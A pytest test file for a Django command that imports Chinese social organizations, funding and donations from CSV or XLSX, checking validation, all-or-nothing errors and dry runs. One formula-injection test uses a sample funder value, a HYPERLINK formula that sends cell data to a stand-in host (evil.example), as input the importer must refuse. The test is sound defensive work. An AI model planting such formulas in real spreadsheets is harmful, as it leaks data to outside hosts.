"""`import_directory`: organizations, funding and donations from CSV or XLSX, all or nothing."""

import csv
import datetime
from decimal import Decimal
from io import StringIO

import openpyxl
import pytest

from django.core.management import CommandError, call_command
from django.utils import translation

from orgdirectory.credit_code import check_character
from orgdirectory.importing import OVERRIDE_NOTE
from orgdirectory.models import Donation, FundingRecord, Organization, OrgType
from taxonomy.models import Region
from tests.orgdirectory.factories import OrganizationFactory

pytestmark = pytest.mark.django_db

ORG_HEADER = [
    "名称",
    "统一社会信用代码",
    "类型",
    "登记管理机关",
    "所在地区",
    "成立登记日期",
    "法定代表人",
    "住所",
    "联系电话",
    "网站",
]
FUNDING_HEADER = ["统一社会信用代码", "年度", "来源", "资助方", "金额", "资助项目"]
DONATION_HEADER = ["捐赠方", "匿名", "金额", "捐赠物资", "捐赠日期", "受赠组织统一社会信用代码", "用途"]


def code(n, category="2"):
    """A valid civil-affairs code for Guangzhou; `category` is position 2 (1 group, 2 service, 3 foundation)."""
    body = f"5{category}440100MJ{n:07d}"
    return body + check_character(body)


def wrong_check(valid):
    return valid[:17] + ("0" if valid[17] != "0" else "1")


def write_csv(tmp_path, header, rows, name="file.csv", bom=True):
    path = tmp_path / name
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
    return path


def write_xlsx(tmp_path, header, rows, name="file.xlsx"):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in [header, *rows]:
        sheet.append(row)
    workbook.save(tmp_path / name)
    return tmp_path / name


def run(kind, path, **options):
    """Run the command in English; return what it wrote to stdout and stderr."""
    out, err = StringIO(), StringIO()
    with translation.override("en"):
        call_command("import_directory", kind, str(path), stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def refused(kind, path, **options):
    """Run the command expecting it to fail; return the error and what it wrote to stderr."""
    err = StringIO()
    with translation.override("en"), pytest.raises(CommandError) as error:
        call_command("import_directory", kind, str(path), stdout=StringIO(), stderr=err, **options)
    return str(error.value), err.getvalue()


def org_row(n, name=None, category="2", org_type="社会服务机构", **overrides):
    row = {
        "名称": f"越秀区社工服务中心{n}" if name is None else name,
        "统一社会信用代码": code(n, category),
        "类型": org_type,
        "登记管理机关": "广州市越秀区民政局",
        "所在地区": "广州市越秀区",
        "成立登记日期": "2015-10-28",
        "法定代表人": "陈志明",
        "住所": "广州市越秀区东风中路 1 号",
        "联系电话": "020-83000000",
        "网站": "www.example.org",
    }
    row.update(overrides)
    return [row[column] for column in ORG_HEADER]


def organization(n, **fields):
    """An organization already in the directory, with the code `org_row(n)` gives."""
    return OrganizationFactory(**{"name": f"组织{n}", "credit_code": code(n), **fields})


# Organizations


def test_csv_with_chinese_headers_creates_organizations(tmp_path):
    rows = [
        org_row(1, "越秀区长者关爱协会", "1", "社会团体"),
        org_row(2, org_type="民办非企业单位"),
        org_row(3, "广州慈善基金会", "3", "基金会"),
    ]
    out, err = run("organizations", write_csv(tmp_path, ORG_HEADER, rows))
    assert "Organizations: 3 created, 0 updated, 0 unchanged." in out
    assert err == ""  # no progress bar when stderr is not a terminal
    association = Organization.objects.get(credit_code=code(1, "1"))
    assert association.name == "越秀区长者关爱协会"
    assert association.org_type == OrgType.SOCIAL_GROUP
    assert association.registration_authority == "广州市越秀区民政局"
    assert (association.region.name, association.city.name) == ("越秀区", "广州市")
    assert association.registered_on == datetime.date(2015, 10, 28)
    assert association.legal_representative == "陈志明"
    assert association.address == "广州市越秀区东风中路 1 号"
    assert association.phone == "020-83000000"
    assert association.website == "https://www.example.org"
    assert Organization.objects.get(credit_code=code(2)).org_type == OrgType.SOCIAL_SERVICE
    assert Organization.objects.get(credit_code=code(3, "3")).org_type == OrgType.FOUNDATION


def test_xlsx_with_english_headers_in_any_order(tmp_path):
    header = ["website", "phone", "region", "registered_on", "org_type", "credit_code", "name"]
    rows = [
        ["", 83000000, "越秀区", datetime.datetime(2016, 3, 1), "foundation", code(1, "3"), "越秀慈善基金会"],
        [None, None, None, None, "social_group", code(2, "1"), "越秀区书法协会"],
    ]
    out, _ = run("organizations", write_xlsx(tmp_path, header, rows))
    assert "2 created" in out
    foundation = Organization.objects.get(credit_code=code(1, "3"))
    assert (foundation.name, foundation.org_type, foundation.phone) == ("越秀慈善基金会", "foundation", "83000000")
    assert foundation.registered_on == datetime.date(2016, 3, 1)
    assert foundation.region.name == "越秀区"
    assert Organization.objects.get(credit_code=code(2, "1")).region is None


def test_csv_without_bom_and_with_only_the_required_columns_is_read(tmp_path):
    path = write_csv(tmp_path, ["类型", "名称", "统一社会信用代码"], [["基金会", "某基金会", code(1, "3")]], bom=False)
    run("organizations", path)
    assert Organization.objects.get().name == "某基金会"


def test_unknown_columns_are_refused_and_listed(tmp_path):
    path = write_csv(tmp_path, [*ORG_HEADER, "备注", "email"], [[*org_row(1), "", ""]])
    message, _ = refused("organizations", path)
    assert "Unknown columns: 备注, email." in message
    assert "name / 名称" in message  # the allowed columns are listed
    assert not Organization.objects.exists()


def test_missing_required_column_is_refused_before_any_row(tmp_path):
    path = write_csv(tmp_path, ["名称", "统一社会信用代码"], [["某协会", "not a code"]])
    message, err = refused("organizations", path)
    assert "Missing required columns: org_type / 类型." in message
    assert err == ""


def test_a_column_named_twice_is_refused(tmp_path):
    path = write_csv(tmp_path, [*ORG_HEADER, "name"], [[*org_row(1), "again"]])
    message, _ = refused("organizations", path)
    assert "Column “name” is there twice" in message


def test_cells_beyond_the_headers_are_refused_as_a_column_without_header(tmp_path):
    path = write_csv(tmp_path, ["名称", "统一社会信用代码", "类型"], [["某基金会", code(1, "3"), "基金会", "多余"]])
    message, _ = refused("organizations", path)
    assert "Unknown columns: column D (no header)." in message


def test_blank_rows_are_skipped_but_keep_the_row_numbers_the_user_sees(tmp_path):
    header = ["name", "credit_code", "org_type"]
    rows = [["某基金会", code(1, "3"), "基金会"], [None, None, None], ["", code(2), "社会服务机构"]]
    _, err = refused("organizations", write_xlsx(tmp_path, header, rows))
    assert err.strip() == "Row 4, column “name”: This cell is required."


@pytest.mark.parametrize("name", ["directory.xls", "directory.txt", "directory"])
def test_files_other_than_csv_and_xlsx_are_refused(tmp_path, name):
    (tmp_path / name).write_text("名称\n")
    message, _ = refused("organizations", tmp_path / name)
    assert "only .csv (UTF-8) and .xlsx files can be imported" in message


def test_csv_not_in_utf8_is_refused_clearly(tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes(",".join(ORG_HEADER[:3]).encode("gbk") + b"\n")
    message, _ = refused("organizations", path)
    assert "is not UTF-8 text" in message


def test_damaged_xlsx_is_refused_clearly(tmp_path):
    path = tmp_path / "damaged.xlsx"
    path.write_bytes(b"not a zip file")
    message, _ = refused("organizations", path)
    assert "is not a readable XLSX workbook" in message


def test_bad_rows_are_reported_by_row_column_and_reason_and_nothing_is_imported(tmp_path):
    kept = organization(9, name="原名称")
    rows = [
        org_row(1),
        org_row(2, name="", **{"网站": "not a web address"}),
        org_row(3, **{"统一社会信用代码": "5244010012345"}),
        org_row(4, **{"成立登记日期": "2015.10.28", "类型": "公司"}),
        org_row(5, **{"所在地区": "火星区"}),
        org_row(9, name="新名称"),
    ]
    message, err = refused("organizations", write_csv(tmp_path, ORG_HEADER, rows))
    assert message == "Rows with errors: 4; nothing was imported."
    assert err.splitlines() == [
        "Row 3, column “名称”: This cell is required.",
        "Row 3, column “网站”: “not a web address” is not a web address.",
        "Row 4, column “统一社会信用代码”: A unified social credit code has 18 characters; this one has 13.",
        "Row 5, column “类型”: “公司” is not one of: 社会团体, 社会服务机构, 民办非企业单位, 基金会.",
        "Row 5, column “成立登记日期”: “2015.10.28” is not a date; write 2015-10-28, 2015/10/28 or 2015年10月28日.",
        "Row 6, column “所在地区”: No region is called “火星区”.",
    ]
    assert Organization.objects.count() == 1
    kept.refresh_from_db()
    assert kept.name == "原名称"


def test_same_credit_code_twice_in_a_file_is_an_error(tmp_path):
    rows = [org_row(1), org_row(2), org_row(1, name="另一个名称")]
    _, err = refused("organizations", write_csv(tmp_path, ORG_HEADER, rows))
    assert err.strip() == "Row 4, column “统一社会信用代码”: This credit code already appears in row 2."


def test_reimport_updates_organizations_by_credit_code_never_duplicates(tmp_path):
    run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1), org_row(2)]))
    rows = [org_row(1, name="新名称", **{"联系电话": "020-1234", "所在地区": "天河区"}), org_row(2)]
    out, _ = run("organizations", write_csv(tmp_path, ORG_HEADER, rows))
    assert "0 created, 1 updated, 1 unchanged" in out
    assert Organization.objects.count() == 2
    updated = Organization.objects.get(credit_code=code(1))
    assert (updated.name, updated.phone, updated.region.name) == ("新名称", "020-1234", "天河区")


def test_a_column_left_out_leaves_the_field_alone_and_an_empty_cell_empties_it(tmp_path):
    organization(1, phone="020-1111", address="旧住所")
    path = write_csv(tmp_path, ["名称", "统一社会信用代码", "类型", "住所"], [["组织1", code(1), "社会服务机构", ""]])
    run("organizations", path)
    kept = Organization.objects.get()
    assert (kept.phone, kept.address) == ("020-1111", "")


def test_check_character_mismatch_is_refused_then_accepted_with_override(tmp_path):
    path = write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"统一社会信用代码": wrong_check(code(1))})])
    _, err = refused("organizations", path)
    assert f"The check character (position 18) should be “{code(1)[17]}”" in err
    assert "import again with --allow-check-override" in err
    assert not Organization.objects.exists()

    run("organizations", path, allow_check_override=True)
    saved = Organization.objects.get()
    assert saved.credit_code == wrong_check(code(1))
    assert saved.check_override is True
    assert saved.check_override_note == OVERRIDE_NOTE == "import_directory --allow-check-override"


def test_category_mismatch_is_refused_then_accepted_with_override(tmp_path):
    path = write_csv(tmp_path, ORG_HEADER, [org_row(1, category="3", org_type="社会团体")])
    _, err = refused("organizations", path)
    assert "Position 2 of this code (“3”) does not match the type Social group." in err

    run("organizations", path, allow_check_override=True)
    saved = Organization.objects.get()
    assert (saved.org_type, saved.check_override) == ("social_group", True)
    assert saved.category_mismatch


def test_code_already_confirmed_by_an_editor_needs_no_override(tmp_path):
    doubtful = wrong_check(code(1))
    organization(1, credit_code=doubtful, check_override=True, check_override_note="见证书")
    path = write_csv(tmp_path, ORG_HEADER, [org_row(1, name="新名称", **{"统一社会信用代码": doubtful})])
    run("organizations", path)
    saved = Organization.objects.get()
    assert (saved.name, saved.check_override_note) == ("新名称", "见证书")


@pytest.mark.parametrize("written", ["广州市越秀区", "越秀区", "Yuexiu District", "广州市"])
def test_region_matched_by_city_and_district_or_district_alone(tmp_path, written):
    run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"所在地区": written})]))
    saved = Organization.objects.get()
    assert saved.city.name == "广州市"
    assert saved.region.name == ("广州市" if written == "广州市" else "越秀区")


def test_ambiguous_district_is_a_row_error_but_city_and_district_together_match(tmp_path):
    Region.objects.create(code="449999", name="越秀区", parent=Region.objects.get(name="深圳市"))
    _, err = refused("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"所在地区": "越秀区"})]))
    assert "“越秀区” could be any of 广州市越秀区, 深圳市越秀区" in err

    run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"所在地区": "深圳市越秀区"})]))
    assert Organization.objects.get().region.code == "449999"


@pytest.mark.parametrize("written", ["2015-10-28", "2015/10/28", "2015年10月28日", "2015-10-28 ", "2015/10/28"])
def test_registration_date_formats(tmp_path, written):
    run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"成立登记日期": written})]))
    assert Organization.objects.get().registered_on == datetime.date(2015, 10, 28)


@pytest.mark.parametrize("written", ["2015.10.28", "28/10/2015", "2015-02-30", "去年"])
def test_other_dates_are_row_errors(tmp_path, written):
    _, err = refused("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"成立登记日期": written})]))
    assert f"Row 2, column “成立登记日期”: “{written}” is not a date" in err


def test_dry_run_reports_without_writing(tmp_path):
    organization(1)
    rows = [org_row(1, name="新名称"), org_row(2)]
    out, _ = run("organizations", write_csv(tmp_path, ORG_HEADER, rows), dry_run=True)
    assert "Dry run: nothing was written." in out
    assert "1 created, 1 updated, 0 unchanged" in out
    assert list(Organization.objects.values_list("name", flat=True)) == ["组织1"]


def test_verbosity_zero_writes_nothing_on_success(tmp_path):
    out, err = run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1)]), verbosity=0)
    assert (out, err) == ("", "")
    assert Organization.objects.count() == 1


# Funding


def funding_row(
    n=1, year="2024", source="政府购买服务", funder="广州市越秀区民政局", amount="12,345.60", project="长者饭堂"
):
    return [code(n), year, source, funder, amount, project]


def test_funding_amounts_are_exact_and_the_summary_is_refreshed(tmp_path):
    funded = organization(1)
    rows = [
        funding_row(amount="12,345.60"),
        funding_row(amount="0.1", project="社区探访"),
        funding_row(amount="0.2", source="fiscal_subsidy"),
        funding_row(amount="12345.6", year="2023年", source="基金会资助"),
    ]
    out, _ = run("funding", write_csv(tmp_path, FUNDING_HEADER, rows))
    assert "Funding records: 4 created, 0 updated, 0 unchanged." in out
    assert sorted(funded.funding_records.values_list("amount", flat=True)) == [
        Decimal("0.10"),
        Decimal("0.20"),
        Decimal("12345.60"),
        Decimal("12345.60"),
    ]
    funded.refresh_from_db()
    assert funded.funding_total == Decimal("24691.50")


def test_funding_from_xlsx_numbers_keeps_the_amount_as_written(tmp_path):
    funded = organization(1)
    header = ["credit_code", "year", "source", "funder", "amount", "project_name"]
    run("funding", write_xlsx(tmp_path, header, [[code(1), 2024, "donation", "某企业", 12345.6, "助学"]]))
    record = FundingRecord.objects.get()
    assert (record.year, record.source, record.amount) == (2024, "donation", Decimal("12345.60"))
    funded.refresh_from_db()
    assert funded.funding_total == Decimal("12345.60")


@pytest.mark.parametrize(
    ("written", "reason"),
    [
        ("-5", "The amount must be more than zero."),
        ("0", "The amount must be more than zero."),
        ("0.00", "The amount must be more than zero."),
        ("abc", "“abc” is not an amount in yuan"),
        ("12,34.5", "“12,34.5” is not an amount in yuan"),
        ("1e3", "“1e3” is not an amount in yuan"),
        ("1.234", "An amount has at most two decimal places."),
        ("1000000000000", "The amount is too large."),
    ],
)
def test_bad_funding_amounts_are_row_errors(tmp_path, written, reason):
    organization(1)
    _, err = refused("funding", write_csv(tmp_path, FUNDING_HEADER, [funding_row(amount=written)]))
    assert err.startswith(f"Row 2, column “金额”: {reason}")
    assert not FundingRecord.objects.exists()


def test_funding_reimport_updates_the_amount_never_duplicates(tmp_path):
    funded = organization(1)
    run("funding", write_csv(tmp_path, FUNDING_HEADER, [funding_row(amount="100"), funding_row(project="助学")]))
    rows = [funding_row(amount="250.50"), funding_row(project="助学")]
    out, _ = run("funding", write_csv(tmp_path, FUNDING_HEADER, rows))
    assert "0 created, 1 updated, 1 unchanged" in out
    assert FundingRecord.objects.count() == 2
    funded.refresh_from_db()
    assert funded.funding_total == Decimal("250.50") + Decimal("12345.60")


def test_funding_rows_are_checked_against_the_database_and_each_other(tmp_path):
    organization(1)
    rows = [
        funding_row(),
        funding_row(n=2),
        funding_row(year="1980", source="捐款"),
        funding_row(funder=""),
        funding_row(amount="99"),
    ]
    message, err = refused("funding", write_csv(tmp_path, FUNDING_HEADER, rows))
    assert message == "Rows with errors: 4; nothing was imported."
    assert err.splitlines() == [
        "Row 3, column “统一社会信用代码”: No organization has this credit code; import the organizations first.",
        "Row 4, column “年度”: “1980” is not a year between 1990 and 2100.",
        "Row 4, column “来源”: “捐款” is not one of: 政府购买服务, 财政补助, 社会捐赠, 基金会资助, 其他.",
        "Row 5, column “资助方”: This cell is required.",
        "Row 6, column “统一社会信用代码”: "
        "The same organization, year, source, funder and project are already in row 2.",
    ]
    assert not FundingRecord.objects.exists()


def test_formulas_in_text_cells_are_refused_and_nothing_is_imported(tmp_path):
    """Spreadsheet formula injection: a funder named =HYPERLINK(…) would reach the public funding CSV."""
    organization(1)
    rows = [
        funding_row(),
        funding_row(funder='=HYPERLINK("http://evil.example/?x="&A2,"点击")'),
        funding_row(project="@SUM(A1:A9)"),
        funding_row(project="+1+2"),
    ]
    message, err = refused("funding", write_csv(tmp_path, FUNDING_HEADER, rows))
    assert message == "Rows with errors: 3; nothing was imported."
    reason = "It starts with “%s”, which spreadsheet programs run as a formula; remove or reword it."
    assert err.splitlines() == [
        f"Row 3, column “资助方”: {reason % '='}",
        f"Row 4, column “资助项目”: {reason % '@'}",
        f"Row 5, column “资助项目”: {reason % '+'}",
    ]
    assert not FundingRecord.objects.exists()


def test_formula_refusal_is_in_chinese_for_a_chinese_user(tmp_path):
    organization(1)
    path = write_csv(tmp_path, FUNDING_HEADER, [funding_row(funder="=A1")])
    with translation.override("zh-hans"), pytest.raises(CommandError):
        call_command("import_directory", "funding", str(path), stdout=StringIO(), stderr=(err := StringIO()))
    assert "电子表格软件会把它当作公式执行" in err.getvalue()
    assert not FundingRecord.objects.exists()


def test_text_may_start_with_a_dash_and_phones_with_a_plus(tmp_path):
    """A leading - is ordinary text (a list, a dash for none) and +86 a phone; the exports neutralise them."""
    run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"联系电话": "+86 20 8300 0000"})]))
    assert Organization.objects.get().phone == "+86 20 8300 0000"
    _, err = refused("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(2, **{"联系电话": "+1+2"})]))
    assert "column “联系电话”: It starts with “+”" in err
    organization(3)
    run("funding", write_csv(tmp_path, FUNDING_HEADER, [funding_row(n=3, project="- 长者饭堂")]))
    assert FundingRecord.objects.get().project_name == "- 长者饭堂"


# Donations


def test_donations_anonymous_in_kind_to_an_organization_or_the_center(tmp_path):
    recipient = organization(1)
    rows = [
        ["陈先生", "是", "5,000", "", "2025/1/15", code(1), "长者饭堂"],
        ["某超市", "否", "", "大米 200 袋", "2025年2月1日", "", ""],
        ["某公司", "", "1000.5", "口罩 1000 个", "2025-03-01", "", "防疫"],
    ]
    out, _ = run("donations", write_csv(tmp_path, DONATION_HEADER, rows))
    assert "Donations: 3 created, 0 already imported." in out
    anonymous = Donation.objects.get(donor_name="陈先生")
    assert (anonymous.is_anonymous, anonymous.amount, anonymous.recipient) == (True, Decimal("5000.00"), recipient)
    assert anonymous.public_donor_name != "陈先生"
    goods = Donation.objects.get(donor_name="某超市")
    assert (goods.is_anonymous, goods.amount, goods.in_kind, goods.recipient) == (False, None, "大米 200 袋", None)
    assert goods.donated_on == datetime.date(2025, 2, 1)
    assert Donation.objects.get(donor_name="某公司").purpose == "防疫"


@pytest.mark.parametrize(
    ("written", "anonymous"), [("yes", True), ("TRUE", True), ("1", True), ("no", False), ("0", False)]
)
def test_anonymous_accepts_yes_and_no_in_both_languages(tmp_path, written, anonymous):
    run(
        "donations",
        write_csv(
            tmp_path, ["donor_name", "is_anonymous", "amount", "donated_on"], [["张女士", written, "1", "2025-01-01"]]
        ),
    )
    assert Donation.objects.get().is_anonymous is anonymous


def test_donation_rows_need_an_amount_or_goods_and_a_known_recipient(tmp_path):
    rows = [
        ["张女士", "也许", "100", "", "2025-01-01", "", ""],
        ["李先生", "", "", "", "2025-01-01", "", ""],
        ["王先生", "", "100", "", "", code(7), ""],
    ]
    _, err = refused("donations", write_csv(tmp_path, DONATION_HEADER, rows))
    assert err.splitlines() == [
        "Row 2, column “匿名”: “也许” is neither yes nor no (是/否, yes/no, true/false, 1/0).",
        "Row 3, column “金额”: Give an amount or describe the goods donated.",
        "Row 4, column “捐赠日期”: This cell is required.",
        "Row 4, column “受赠组织统一社会信用代码”: "
        "No organization has this credit code; import the organizations first.",
    ]
    assert not Donation.objects.exists()


def test_donations_file_without_amount_or_goods_column_is_refused(tmp_path):
    message, _ = refused("donations", write_csv(tmp_path, ["捐赠方", "捐赠日期"], [["张女士", "2025-01-01"]]))
    assert "needs a column for the amount (amount / 金额) or for the goods donated (in_kind / 捐赠物资)" in message


def test_donations_reimport_skips_those_already_imported(tmp_path):
    rows = [["陈先生", "是", "5000", "", "2025-01-15", "", ""], ["某超市", "", "", "大米", "2025-02-01", "", ""]]
    run("donations", write_csv(tmp_path, DONATION_HEADER, rows))
    more = [*rows, ["陈先生", "是", "5000", "", "2025-01-16", "", ""]]
    out, _ = run("donations", write_xlsx(tmp_path, DONATION_HEADER, more))
    assert "Donations: 1 created, 2 already imported." in out
    assert Donation.objects.count() == 3


def test_donations_dry_run_writes_nothing(tmp_path):
    out, _ = run(
        "donations",
        write_csv(tmp_path, DONATION_HEADER, [["陈先生", "", "5000", "", "2025-01-15", "", ""]]),
        dry_run=True,
    )
    assert "Donations: 1 created" in out
    assert not Donation.objects.exists()


def test_same_donation_twice_in_a_file_is_an_error(tmp_path):
    rows = [["陈先生", "", "5000", "", "2025-01-15", "", ""], ["陈先生", "是", "5,000.00", "", "2025/1/15", "", "助学"]]
    _, err = refused("donations", write_csv(tmp_path, DONATION_HEADER, rows))
    assert err.strip() == (
        "Row 3, column “捐赠方”: The same donor, date, amount, goods and recipient are already in row 2."
    )
